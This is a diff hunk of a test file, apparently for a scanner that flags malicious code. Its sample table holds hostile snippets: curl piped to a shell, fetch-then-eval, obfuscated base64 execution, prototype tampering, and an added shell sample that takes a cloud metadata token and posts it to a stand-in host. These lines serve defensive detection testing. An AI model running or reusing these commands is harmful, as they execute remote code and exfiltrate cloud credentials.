@@ -40,6 +40,9 @@ def fired(text: str, name: str) -> set[str]:
         ("a.js", "require('child_process').exec(['cu', 'rl 127.0.0.1 | sh'].join(''))", "download-and-run"),
         ("a.js", "window.fetch('http://127.0.0.1').then(r => r.text()).then(c => eval(c))", "download-and-run"),
         ("a.js", "const f = [].filter.constructor; f(atob('Y29uc29sZS5sb2coMSk='))()", "decoded-exec"),
+        ("a.js", "const F = (() => {}).constructor; F(atob('Y29uc29sZS5sb2coMSk='))()", "decoded-exec"),
+        ("a.sh", "T=$(curl -s -X PUT http://169.254.169.254/latest/api/token)\ncurl -d \"$T\" https://in.example.net/\n",
+         "exfiltration"),
         ("a.js", "require('dns').lookup(require('os').hostname() + '.invalid', f)", "reports-host"),
         ("a.js", "Object.prototype.shell = '/bin/sh'", "tampered-verification"),
         ("a.go", 'package a\nimport ("net/http"; "os"; "strings")\nfunc init() { http.Post("http://127.0.0.1", "t", '
